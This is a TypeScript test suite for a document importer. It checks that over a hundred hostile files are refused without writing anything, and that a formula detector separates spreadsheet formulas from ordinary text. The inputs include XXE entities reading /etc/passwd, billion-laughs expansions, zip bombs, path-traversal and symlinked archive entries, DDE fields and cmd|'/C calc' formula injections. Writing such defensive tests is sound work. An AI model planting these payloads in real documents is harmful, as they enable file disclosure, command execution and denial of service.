import {
  closeSync,
  ftruncateSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isFormula } from '../../plugins/authoring/lib/import/csv.js';
import { useCommand } from '../authoring/command.js';
import {
  docxParts,
  jpegOf,
  makeZip,
  paragraph,
  rels,
  xlsxParts,
  type ZipEntry,
} from '../authoring/office-files.js';
import { page } from '../market/helpers.js';

/** What is handed over; a function makes it in a folder. */
type Hostile = Uint8Array | string | ((folder: string) => void);

const docx = docxParts(paragraph('板を合わせる'));
const xlsx = xlsxParts([['題'], ['板を合わせる']]);
const zip = (entries: readonly ZipEntry[], ...more: ZipEntry[]) => makeZip([...entries, ...more]);
const swap = (
  entries: readonly ZipEntry[],
  name: string,
  content: string | Uint8Array,
  more = {},
) => entries.map((entry) => (entry.name === name ? { ...entry, content, ...more } : entry));
const ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">';
const LOL = `${ENTITY}${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n} "${`&${n === 0 ? 'a' : `l${n - 1}`};`.repeat(10)}">`).join('')}]><x>&l8;</x>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]><x>&s;</x>';
const deep = (name: string, count: number) =>
  `<${name}>`.repeat(count) + `</${name}>`.repeat(count);
const sheet = (cell: string) => zip(xlsxParts([['題'], [cell]]));
const raw = (bytes: Buffer, at: number, value: number) => {
  const copy = Buffer.from(bytes);
  copy.writeUInt16LE(value, at);
  return copy;
};
const plainDocx = makeZip(docx);
const end = plainDocx.length - 22;
const sparse = (folder: string, name: string) => {
  const fd = openSync(join(folder, name), 'w');
  ftruncateSync(fd, 1_000_000_000);
  closeSync(fd);
};

const archives: [what: string, from: 'docx' | 'xlsx', Hostile][] = [
  ['no zip at all', 'docx', 'これは文章です。'],
  ['a page that calls itself a document', 'docx', '<html><script>alert(1)</script></html>'],
  ['an old .doc', 'docx', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3, 4, ...Buffer.alloc(600)])],
  ['an empty zip', 'docx', makeZip([])],
  ['a zip cut in half', 'docx', plainDocx.subarray(0, plainDocx.length / 2)],
  ['a zip without its last byte', 'docx', plainDocx.subarray(0, -1)],
  ['something behind the end of the zip', 'docx', Buffer.concat([plainDocx, Buffer.from('tail')])],
  [
    'a directory that points beyond the file',
    'docx',
    (() => {
      const b = Buffer.from(plainDocx);
      b.writeUInt32LE(0x7fffffff, end + 16);
      return b;
    })(),
  ],
  [
    'a directory with more entries than there are',
    'docx',
    raw(raw(plainDocx, end + 8, 900), end + 10, 900),
  ],
  ['zip64', 'docx', raw(raw(plainDocx, end + 8, 0xffff), end + 10, 0xffff)],
  ['a zip in several parts', 'docx', raw(plainDocx, end + 4, 1)],
  ['a zip that holds another zip only', 'docx', makeZip([{ name: 'a.docx', content: plainDocx }])],
  ['a workbook called .docx', 'docx', makeZip(xlsx)],
  ['a document called .xlsx', 'xlsx', plainDocx],
  ['a name that leads upwards', 'docx', zip(docx, { name: '../../evil.md', content: 'x' })],
  [
    'a name that leads upwards inside',
    'docx',
    zip(docx, { name: 'word/../../evil.md', content: 'x' }),
  ],
  ['an absolute name', 'docx', zip(docx, { name: '/etc/cron.d/evil', content: 'x' })],
  ['a name of Windows', 'docx', zip(docx, { name: 'C:\\evil.md', content: 'x' })],
  ['a name with backslashes', 'xlsx', zip(xlsx, { name: '..\\..\\evil.md', content: 'x' })],
  ['a name with NUL', 'docx', zip(docx, { name: 'word/a\0.xml', content: 'x' })],
  ['a name that is no UTF-8', 'docx', zip(docx, { name: 'word/\ufffd.xml', content: 'x' })],
  ['an empty name', 'docx', zip(docx, { name: '', content: 'x' })],
  [
    'a symbolic link',
    'docx',
    zip(docx, { name: 'word/link', content: '/etc/passwd', mode: 0o120777 }),
  ],
  ['the same name twice', 'docx', zip(docx, { name: 'word/document.xml', content: '<x/>' })],
  [
    'the same name in another case',
    'docx',
    zip(docx, { name: 'WORD/DOCUMENT.XML', content: '<x/>' }),
  ],
  ['a password', 'docx', makeZip(docx.map((entry) => ({ ...entry, flags: 1 })))],
  ['a way of packing nobody reads', 'docx', zip(docx, { name: 'a', content: 'x', method: 12 })],
  [
    'a bomb: 50 MB of nothing in 50 kB',
    'docx',
    zip(docx, { name: 'word/x.xml', content: Buffer.alloc(50_000_000) }),
  ],
  [
    'a bomb that says it is larger than a disk',
    'docx',
    zip(docx, { name: 'a', content: 'x', size: 0xfffffffe }),
  ],
  [
    'a bomb of many parts',
    'docx',
    zip(
      docx,
      ...Array.from({ length: 40 }, (_, n) => ({
        name: `a${n}`,
        content: 'x',
        size: 9_000_000,
        method: 0,
      })),
    ),
  ],
  [
    '6,000 entries',
    'docx',
    zip(docx, ...Array.from({ length: 6000 }, (_, n) => ({ name: `a${n}`, content: '' }))),
  ],
  [
    'a size that is too small',
    'docx',
    makeZip(swap(docx, 'word/document.xml', docx[2]?.content ?? '', { size: 10 })),
  ],
  [
    'a size that is too large',
    'docx',
    makeZip(swap(docx, 'word/document.xml', docx[2]?.content ?? '', { size: 9999 })),
  ],
  [
    'a checksum that is wrong',
    'docx',
    makeZip(swap(docx, 'word/document.xml', docx[2]?.content ?? '', { crc: 1 })),
  ],
  [
    'packed bytes that are none',
    'docx',
    (() => {
      const b = Buffer.from(plainDocx);
      b.fill(0xff, 60, 90);
      return b;
    })(),
  ],
  ['entities that grow (billion laughs)', 'docx', makeZip(swap(docx, 'word/document.xml', LOL))],
  ['an entity that reads a file', 'docx', makeZip(swap(docx, 'word/document.xml', XXE))],
  ['an entity in the styles', 'docx', makeZip(swap(docx, 'word/styles.xml', XXE))],
  [
    'an entity in a part nobody asks for',
    'docx',
    zip(docx, { name: 'customXml/item1.xml', content: LOL }),
  ],
  [
    'an entity in UTF-16',
    'docx',
    makeZip(swap(docx, 'word/document.xml', Buffer.from(`\ufeff${XXE}`, 'utf16le'))),
  ],
  [
    'XML that is cut',
    'docx',
    makeZip(swap(docx, 'word/document.xml', '<w:document xmlns:w="w"><w:body>')),
  ],
  ['XML that is none', 'docx', makeZip(swap(docx, 'word/document.xml', 'PK\u0003'))],
  [
    '100,000 elements inside each other',
    'docx',
    makeZip(swap(docx, 'word/document.xml', deep('a', 100_000))),
  ],
  [
    'bytes of no encoding',
    'docx',
    makeZip(swap(docx, 'word/document.xml', Buffer.from([0x3c, 0xff, 0xff, 0x80, 0x81]))),
  ],
  ['a document without a word', 'docx', makeZip(docxParts(''))],
  ['macros', 'docx', zip(docx, { name: 'word/vbaProject.bin', content: 'x' })],
  [
    'a field that starts another program',
    'docx',
    makeZip(
      docxParts(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
      ),
    ),
  ],
  ['a workbook with macros', 'xlsx', zip(xlsx, { name: 'xl/vbaProject.bin', content: 'x' })],
  [
    'a workbook with a DDE link',
    'xlsx',
    zip(xlsx, {
      name: 'xl/externalLinks/externalLink1.xml',
      content:
        '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ],
  ['a workbook with entities', 'xlsx', makeZip(swap(xlsx, 'xl/worksheets/sheet1.xml', LOL))],
  [
    'a workbook with a sheet of entities elsewhere',
    'xlsx',
    makeZip(swap(xlsx, 'xl/workbook.xml', XXE)),
  ],
  [
    'a formula that asks the net',
    'xlsx',
    sheet('<c r="A2"><f>WEBSERVICE("http://x.invalid/"&amp;A1)</f><v>1</v></c>'),
  ],
  [
    'a formula that is a link',
    'xlsx',
    sheet('<c r="A2"><f>HYPERLINK("http://x.invalid","押す")</f><v>押す</v></c>'),
  ],
  [
    'a formula that calls a program',
    'xlsx',
    sheet('<c r="A2"><f>cmd|\'/C calc\'!A0</f><v>1</v></c>'),
  ],
  ['a text that is a formula', 'xlsx', sheet('=HYPERLINK(A1)')],
  ['a workbook without a word', 'xlsx', makeZip(xlsxParts([]))],
  ['3,000 rows', 'xlsx', makeZip(xlsxParts(Array.from({ length: 3000 }, () => ['板'])))],
  ['a file of 1 GB', 'docx', (folder) => sparse(folder, 'in.docx')],
  ['a workbook of 1 GB', 'xlsx', (folder) => sparse(folder, 'in.xlsx')],
  [
    'relations that lead out',
    'xlsx',
    makeZip(
      swap(xlsx, 'xl/_rels/workbook.xml.rels', rels(['r1', 'worksheet', '../../../etc/passwd'])),
    ),
  ],
];

const csvs: [what: string, Hostile][] = [
  ['an empty file', ''],
  ['blank lines only', '\n\n\n'],
  ['a picture', jpegOf(undefined)],
  ['a program', Buffer.from([0x4d, 0x5a, 0, 0, 1, 2])],
  ['a zip', plainDocx],
  ['NUL inside', '題名\n板\0を\n'],
  ['EUC-JP', Buffer.from([0xc2, 0xea, 0xcc, 0xbe, 0x0a, 0xff, 0xfe, 0x8f, 0x0a])],
  ['UTF-16 without a mark', Buffer.from('題名\n板\n', 'utf16le')],
  ['bytes of no encoding', Buffer.from([0xe9, 0xa1, 0x8c, 0x0a, 0x81, 0x00, 0xff])],
  [
    'half a character at the end',
    Buffer.concat([Buffer.from('題名\n板'), Buffer.from([0xff, 0xe3, 0x81])]),
  ],
  ['a quote that is not closed', '"題名","本文"\n"板","合わせる\n"次","x"\n'],
  ['more cells than names', '題名,本文\n板,合わせる,もう一つ\n'],
  ['fewer cells than names', '題名,本文,画像\n板,合わせる\n'],
  [
    '1,500 columns',
    `${Array.from({ length: 1500 }, (_, n) => `c${n}`).join(',')}\n${'x,'.repeat(1499)}x\n`,
  ],
  ['300,000 rows', `題名\n${'板\n'.repeat(300_000)}`],
  ['a cell of 300,000 characters', `題名,本文\n板,${'あ'.repeat(300_000)}\n`],
  ['a formula', '題名,本文\n板,"=HYPERLINK(""http://x.invalid"",""押す"")"\n'],
  ['a formula that calls a program', "題名,本文\n板,=cmd|'/C calc'!A0\n"],
  ['a formula behind a plus', '題名,本文\n板,+SUM(1+1)*cmd|x\n'],
  ['a formula behind an at sign', '題名,本文\n板,@SUM(A1:A9)\n'],
  ['a formula behind a blank', '題名,本文\n板, =1+1\n'],
  ['a formula in full-width signs', '題名,本文\n板,＝ＳＵＭ（Ａ１）\n'],
  ['a record that begins in the middle', '"*","題名"\n"","板"\n'],
  ['control characters', '題名\n板\u001b[2Jを\n'],
  ['a file of 1 GB', (folder) => sparse(folder, 'in.csv')],
  ['a folder', (folder) => mkdirSync(join(folder, 'in.csv'))],
];

const others: [what: string, from: string, file: string, Hostile][] = [
  ['entities that grow', 'omanual', 'in.xml', LOL],
  ['an entity that reads a file', 'omanual', 'in.xml', XXE],
  ['another document', 'omanual', 'in.xml', '<html/>'],
  ['XML that is cut', 'omanual', 'in.xml', '<guide><steps>'],
  ['elements inside each other', 'omanual', 'in.xml', deep('guide', 50_000)],
  ['a guide of 1 GB', 'omanual', 'in.xml', (folder) => sparse(folder, 'in.xml')],
  ['captions without a head', 'subtitles', 'in.vtt', 'これは字幕ではない'],
  ['captions of zeros', 'subtitles', 'in.vtt', Buffer.alloc(100)],
  ['captions of 1 GB', 'subtitles', 'in.vtt', (folder) => sparse(folder, 'in.vtt')],
  ['a program for captions', 'subtitles', 'in.exe', Buffer.from([0x4d, 0x5a])],
  ['a folder without photos', 'photos', 'in', (folder) => mkdirSync(join(folder, 'in'))],
  [
    'a photo of 1 GB',
    'photos',
    'in',
    (folder) => {
      mkdirSync(join(folder, 'in'));
      sparse(join(folder, 'in'), 'a.jpg');
    },
  ],
  ['a file for a folder', 'photos', 'in', 'x'],
  [
    'links to other photos only',
    'photos',
    'in',
    (folder) => {
      mkdirSync(join(folder, 'in'));
      writeFileSync(join(folder, 'a.jpg'), jpegOf(undefined));
      symlinkSync(join(folder, 'a.jpg'), join(folder, 'in', 'a.jpg'));
    },
  ],
  ['a folder without pages', 'markdown', 'in', (folder) => mkdirSync(join(folder, 'in'))],
  [
    'front matter that is a program',
    'markdown',
    'in',
    (folder) => {
      mkdirSync(join(folder, 'in'));
      writeFileSync(join(folder, 'in/a.md'), '---js\n{title: process.exit(1)}\n---\n');
    },
  ],
  [
    'a page of 1 GB',
    'markdown',
    'in',
    (folder) => {
      mkdirSync(join(folder, 'in'));
      sparse(join(folder, 'in'), 'a.md');
    },
  ],
  [
    'a page that is none',
    'markdown',
    'in',
    (folder) => {
      mkdirSync(join(folder, 'in'));
      writeFileSync(join(folder, 'in/a.md'), Buffer.from([0, 1, 2]));
    },
  ],
];

const all: [what: string, from: string, file: string, Hostile][] = [
  ...archives.map(([what, from, hostile]): (typeof others)[number] => [
    `${from}: ${what}`,
    from,
    `in.${from}`,
    hostile,
  ]),
  ...csvs.map(([what, hostile]): (typeof others)[number] => [
    `csv: ${what}`,
    'kintone',
    'in.csv',
    hostile,
  ]),
  ...others.map(([what, from, file, hostile]): (typeof others)[number] => [
    `${from}: ${what}`,
    from,
    file,
    hostile,
  ]),
];

describe('hostile files', () => {
  const ichiba = useCommand('import', {
    'docs/orgs/own-org.md': page('題名: 自社\n区分: 企業\n公開範囲: 一般公開\n状態: 承認済み'),
    'inbox/readme.txt': 'x',
  });
  const tree = (folder: string): string[] =>
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .map((entry) => join(entry.parentPath, entry.name))
      .sort();

  it('are a hundred', () => expect(all.length).toBeGreaterThanOrEqual(100));

  it.each(all)('%s', async (_, from, file, hostile) => {
    const inbox = join(ichiba.dir, 'inbox');
    if (typeof hostile === 'function') hostile(inbox);
    else writeFileSync(join(inbox, file), hostile);
    const before = [
      tree(ichiba.dir),
      readFileSync(join(ichiba.dir, 'docs/orgs/own-org.md'), 'utf8'),
    ];
    process.env.INIT_CWD = ichiba.dir;
    const memory = process.memoryUsage().rss;
    const code = await ichiba.run(from, join('inbox', file));
    expect(ichiba.output).toContain('取り込みませんでした: ');
    expect(ichiba.output).toContain('何も書いていません');
    expect(ichiba.output).toMatch(/[ぁ-ん]/);
    expect(code).toBe(1);
    expect([
      tree(ichiba.dir),
      readFileSync(join(ichiba.dir, 'docs/orgs/own-org.md'), 'utf8'),
    ]).toEqual(before);
    expect(process.memoryUsage().rss - memory).toBeLessThan(400_000_000);
  });
});

describe('cells', () => {
  const formulas =
    '=1+1|=A1|=$A$1|=SUM(A1:A9)|=sum(a1)| =1+1|　=1+1|＝1+1|="a"&A1|=HYPERLINK("http://x")|=WEBSERVICE("http://x")|=IMPORTXML("x","y")|=IMPORTDATA("x")|=INDIRECT("A1")|=Sheet1!A1|=\'シート 1\'!A1|=[1]Sheet1!A1|=cmd¦\'/C calc\'!A0|+cmd¦\'/C calc\'!A0|-cmd¦\'/C calc\'!A0|@cmd¦\'/C calc\'!A0|=MSEXCEL¦\'x\'!A0|+SUM(1)|-SUM(1)|@SUM(1)|=+SUM(1)|==SUM(1)|=-1+2|=10/2|=2^8|=3*4|=CONCAT(A1,B1)|=CHAR(61)|=CELL("address")|=INFO("os")|=RTD("x")|=FILTERXML("x","y")|=VLOOKUP(1,A:B,2)|=IF(A1,1,2)|=DDE("cmd";"x";"y")|=DDEAUTO("x")|=EXEC("calc")|=CALL("kernel32")|=REGISTER.ID("x")|"=1+1"|\'=1+1|=_xlfn.CONCAT(A1)|=INDEX(A:A,1)|=AA10|=rand()'
      .split('|')
      .map((cell) => cell.replaceAll('¦', '|'));
  const ordinary =
    '-30|+5|-0.5|- 30|+81-3-1234-5678|-30℃|=10mm|=|==|===|-|--|---|+|@|@担当|@溶接係|@veteran|-M6のねじ|- M6ボルト|+M8|-A4の紙|- TIG溶接（直流）|-TIG (DC)|+-0.2mm|±0.2|−30|ー30|＋5|－5|＝同じ|=同じ品|= 板厚|=> 次へ|=＞|-> 次へ|-○|-×|+α|-10〜-5|-10/-5|- 板を合わせる|・-5|1=1|a=b|5-3|A1|SUM|A-1|合計=10'.split(
      '|',
    );
  it('are fifty formulas and fifty words of people', () => {
    expect([formulas.length, ordinary.length]).toEqual([50, 50]);
  });
  it.each(formulas)('%s is a formula', (cell) => expect(isFormula(cell)).toBe(true));
  it.each(ordinary)('%s is none', (cell) => expect(isFormula(cell)).toBe(false));
});
